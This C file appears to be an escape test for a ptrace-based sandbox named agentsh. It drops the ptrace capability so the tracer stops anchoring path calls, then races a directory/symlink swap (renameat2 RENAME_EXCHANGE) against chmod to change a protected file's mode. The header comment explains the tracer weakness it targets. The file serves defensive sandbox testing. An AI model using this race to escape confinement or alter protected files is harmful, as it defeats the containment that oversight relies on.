/*
 * Vector 2: the directory-swap race of esc_dir_swap_chmod, after the tracee
 * dropped CAP_SYS_PTRACE (and another capability) from its effective set
 * (root only). Its credentials then differ from agentsh's and it may not
 * follow the tracer's fd links, so the tracer stops anchoring its path
 * calls (tracer/anchor.c tracee_may_follow) and pins them by resolved name,
 * where a directory swapped for a symlink after the decision still
 * redirects them. capset is allowed: it only lowers the tracee.
 * success = protected/victim.txt's mode changed.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>

#include <linux/capability.h>

static atomic_bool stop;
static char d[4096], lnk[4096];

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		renameat2(AT_FDCWD, lnk, AT_FDCWD, d, RENAME_EXCHANGE);
	return NULL;
}

static void drop_caps(void)
{
	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct cd[2];

	if (geteuid() != 0)
		esc_skip("needs root (a capability to drop)");
	if (syscall(SYS_capget, &h, cd) < 0)
		esc_broken("capget: %s", strerror(errno));
	cd[0].effective &= ~((1u << CAP_SYS_PTRACE) | (1u << CAP_SYS_BOOT));
	if (syscall(SYS_capset, &h, cd) < 0)
		esc_broken("capset: %s", strerror(errno));
}

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	struct stat st;
	mode_t before;

	drop_caps();
	snprintf(d, sizeof(d), "%s/d", esc_work());
	snprintf(lnk, sizeof(lnk), "%s/linkdir", esc_work());
	if (stat(victim, &st) < 0)
		esc_broken("stat %s: %s", victim, strerror(errno));
	before = st.st_mode & 07777;
	if (mkdir(d, 0755) < 0)
		esc_broken("mkdir: %s", strerror(errno));
	int fd = open(esc_fmt("%s/victim.txt", d), O_WRONLY | O_CREAT, 0644);
	if (fd < 0)
		esc_broken("decoy");
	close(fd);
	if (symlink(esc_protected(), lnk) < 0)
		esc_blocked("symlink: %s", strerror(errno));
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	const char *target = esc_fmt("%s/victim.txt", d);
	double end = esc_now() + 5;
	long tries = 0;
	mode_t m = before ^ 0100;
	while (esc_now() < end) {
		tries++;
		chmod(target, m);
		if (stat(victim, &st) == 0 && (st.st_mode & 07777) != before) {
			atomic_store(&stop, true);
			esc_success("chmod reached protected/victim.txt through a swapped directory after %ld tries (capabilities dropped)", tries);
		}
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("protected/victim.txt kept its mode in %ld tries", tries);
}
